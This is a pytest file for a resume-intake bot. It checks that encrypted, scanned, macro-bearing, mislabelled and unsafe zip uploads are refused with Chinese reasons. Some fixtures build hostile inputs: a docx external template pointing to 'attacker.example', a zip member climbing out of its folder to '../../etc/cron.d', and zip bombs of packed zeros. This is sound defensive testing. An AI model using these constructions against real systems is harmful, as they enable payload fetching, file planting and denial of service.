"""Files that are not read, each with its own Chinese reason, and nothing raised: encrypted and scanned PDFs, old
Word, empty and oversized files, macros, a name that lies, pictures; and .zip archives that are bombs or climb out
of their folder (the rest of the archive still read)."""
from __future__ import annotations

import io
import random
import zipfile

import pytest
from pypdf import PdfReader, PdfWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from bot.resumes.formats import MAX_BYTES, ResumeRejected
from bot.resumes.intake import read_resume
from bot.resumes.safezip import read_zip
from tests.bot.resumes.generate import make_spec, to_docx, to_pdf

SPEC = make_spec(random.Random(7), lang="zh", pages=1)


def refused(data: bytes, filename: str, code: str) -> str:
    outcome = read_resume(data, filename)
    assert (outcome.code, outcome.resume) == (code, None), outcome.reason
    assert outcome.reason and any("\u4e00" <= ch <= "\u9fff" for ch in outcome.reason)
    return outcome.reason


def test_encrypted_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(to_pdf(SPEC))))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "密码" in refused(buffer.getvalue(), "简历.pdf", "encrypted")


def test_a_pdf_locked_only_against_editing_is_read():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(to_pdf(SPEC))))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    outcome = read_resume(buffer.getvalue(), "简历.pdf")
    assert outcome.ok and outcome.resume.name.value == SPEC.name


def test_scanned_pdf_without_a_text_layer():
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    for y in range(100, 800, 12):  # what a scan is to a PDF reader: marks, no text
        pdf.rect(50, y, 400 * random.Random(y).random(), 6, fill=1)
    pdf.showPage()
    pdf.save()
    reason = refused(buffer.getvalue(), "扫描件.pdf", "scanned")
    assert "OCR" in reason and "Word" in reason


def test_old_word_doc():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Microsoft Word" * 100
    reason = refused(ole, "简历.doc", "old_word")
    assert ".docx" in reason and "PDF" in reason


def test_empty_and_oversized():
    assert "0 字节" in refused(b"", "简历.pdf", "empty")
    assert "20 MB" in refused(b"%PDF-1.4\n" + b"0" * MAX_BYTES, "简历.pdf", "too_large")


def test_docx_with_macros_is_refused():
    source = zipfile.ZipFile(io.BytesIO(to_docx(SPEC)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        out.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    assert "宏" in refused(buffer.getvalue(), "简历.docm", "macros")


def test_docx_with_an_external_template_is_read_and_says_it_was_ignored():
    source = zipfile.ZipFile(io.BytesIO(to_docx(SPEC)))
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            '</Relationships>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        out.writestr("word/_rels/settings.xml.rels", rels)
    outcome = read_resume(buffer.getvalue(), "简历.docx")
    assert outcome.ok and outcome.resume.name.value == SPEC.name
    assert outcome.notices == ["文档含有外部引用（模板、链接的对象或图片），已忽略，未访问任何外部地址。"]


@pytest.mark.parametrize(("data", "code", "words"), [
    (b"\x7fELF\x02\x01\x01" + bytes(300), "unknown", "扩展名是 .pdf"),
    (b"\x89PNG\r\n\x1a\n" + bytes(300), "image", "OCR"),
    (b"{\\rtf1\\ansi hello}", "rtf", "RTF"),
    (b"%PDF-1.4\n garbage that is no PDF at all \n%%EOF", "damaged", "损坏"),
])
def test_files_that_are_not_what_they_say(data, code, words):
    assert words in refused(data, "简历.pdf", code)


def test_a_xlsx_is_not_a_resume():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr("xl/workbook.xml", "<workbook/>")
    assert "压缩包" in refused(buffer.getvalue(), "简历.docx", "zip")


def test_zip_bomb_and_climbing_paths_are_refused_member_by_member():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("张三.pdf", to_pdf(SPEC))
        out.writestr("../../etc/cron.d/x.pdf", b"%PDF-1.4")
        out.writestr("/abs/path.pdf", b"%PDF-1.4")
        out.writestr("bomb.txt", bytes(60 * 1024 * 1024))  # 60 MB of zeros: about 60 KB packed
        out.writestr("__MACOSX/._张三.pdf", b"junk")
        out.writestr("李四.docx", to_docx(SPEC))
    members = read_zip(buffer.getvalue())
    by_name = {m.name: m for m in members}
    assert set(by_name) == {"张三.pdf", "../../etc/cron.d/x.pdf", "/abs/path.pdf", "bomb.txt", "李四.docx"}
    assert by_name["../../etc/cron.d/x.pdf"].code == by_name["/abs/path.pdf"].code == "zip_path"
    assert by_name["bomb.txt"].code == "zip_bomb" and "压缩炸弹" in by_name["bomb.txt"].reason
    assert by_name["张三.pdf"].ok and by_name["李四.docx"].ok
    assert read_resume(by_name["张三.pdf"].data, "张三.pdf").resume.name.value == SPEC.name


def test_zip_limits_on_members_and_total_and_gbk_names():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for n in range(12):
            out.writestr(f"{n}.txt", b"x" * 1000)
    with pytest.raises(ResumeRejected) as raised:
        read_zip(buffer.getvalue(), max_members=10)
    assert "超过 10 个" in str(raised.value)
    members = read_zip(buffer.getvalue(), max_total=5000)
    assert sum(m.ok for m in members) == 5 and members[-1].code == "zip_total"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr("abcdefgh.txt", "王五")
    # a zip made on Chinese Windows: the name's GBK bytes, no UTF-8 flag (same length as the placeholder)
    gbk = buffer.getvalue().replace(b"abcdefgh.txt", "王五简历.txt".encode("gbk"))
    assert [m.name for m in read_zip(gbk)] == ["王五简历.txt"]
    with pytest.raises(ResumeRejected, match="已损坏"):
        read_zip(b"PK\x03\x04 broken")


def test_a_docx_that_is_a_zip_bomb_is_refused_before_python_docx_reads_it():
    source = zipfile.ZipFile(io.BytesIO(to_docx(SPEC)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        out.writestr("word/media/padding.xml", bytes(300 * 1024 * 1024))  # 300 MB of zeros: about 300 KB packed
    assert "压缩炸弹" in refused(buffer.getvalue(), "简历.docx", "zip_bomb")
